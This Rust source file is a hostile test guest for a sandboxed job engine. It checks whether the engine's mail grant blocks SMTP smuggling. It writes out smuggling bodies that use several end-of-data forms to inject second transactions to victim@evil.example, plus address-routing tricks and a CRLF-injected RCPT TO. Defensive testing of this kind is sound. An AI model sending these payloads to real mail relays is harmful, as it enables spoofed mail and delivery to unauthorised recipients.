//! Hostile guest: tries to smuggle a second SMTP transaction past its mail grant.
//!
//! It sends one mail to its granted recipient (`pki-team@example.com`) whose body carries every
//! end-of-data form a lax relay accepts (`LF.LF`, `CR.CR`, `LF.CRLF`, `CRLF.LF`, `CRLF.CRLF`),
//! each followed by a complete `MAIL FROM`/`RCPT TO`/`DATA` transaction to
//! `victim@evil.example`. Then it tries address forms that relays route elsewhere than the
//! grant check reads them (percent hack, source route, bang path, quoted local part, comment,
//! trailing dot, IP literal), all of which look like `@example.com` to a naive check.
//!
//! It logs each answer and succeeds; the engine must deliver exactly one transaction, to the
//! granted recipient only, and refuse every address form.

use jobhook_sdk::log::{Level, log};
use jobhook_sdk::mail::Message;
use jobhook_sdk::{Context, Handler, Result, export_handler};

/// A second transaction after the end-of-data form `eol . eol`: commands on lines of their own,
/// to `victim@evil.example`, its data ended by the same form. Every LF-delimited segment is
/// shorter than 76 bytes and the text is ASCII, so a transport that picks the transfer
/// encoding by line length (as `lettre` does, counting only LF as a line end) sends the body
/// 7bit, bare CRs and all.
fn smuggled(eol: &str, from: &str) -> String {
    format!(
        "{eol}.{eol}MAIL FROM:<{from}@evil.example>\nRCPT TO:<victim@evil.example>\nDATA\nsmuggled{eol}.{eol}"
    )
}

/// `sent` or `refused: <why>`.
fn answer(result: Result<()>) -> String {
    match result {
        Ok(()) => "sent".into(),
        Err(e) => format!("refused: {e}"),
    }
}

struct MailSmuggle;

impl Handler for MailSmuggle {
    fn run(_ctx: &Context) -> Result<()> {
        let mut body = String::from("Job failed.");
        for (eol, from) in [
            ("\r", "cr"),
            ("\n", "lf"),
            ("\r\n", "crlf"),
            ("\n\r", "lfcr"),
        ] {
            body.push_str(&smuggled(eol, from));
        }
        body.push_str("\n.\r\nMAIL FROM:<a@evil.example>\r\n");
        body.push_str("\r\n.\nMAIL FROM:<b@evil.example>\r\n");
        body.push_str("trailing");
        let sent = Message::new()
            .to("pki-team@example.com")
            .subject("Job failed")
            .body(body)
            .send();
        log(Level::Info, &format!("smuggling body: {}", answer(sent)));

        for address in [
            "victim%evil.example@example.com",
            "@example.com:victim@evil.example",
            "evil.example!victim@example.com",
            "\"victim@evil.example\"@example.com",
            "victim@evil.example(@example.com)",
            "pki-team@example.com.",
            "victim@[127.0.0.1]",
            "pki-team@example.com\r\nRCPT TO:<victim@evil.example>",
        ] {
            let sent = Message::new()
                .to(address)
                .subject("Job failed")
                .body("x")
                .send();
            log(
                Level::Info,
                &format!("address {address:?}: {}", answer(sent)),
            );
        }
        Ok(())
    }
}

export_handler!(MailSmuggle);
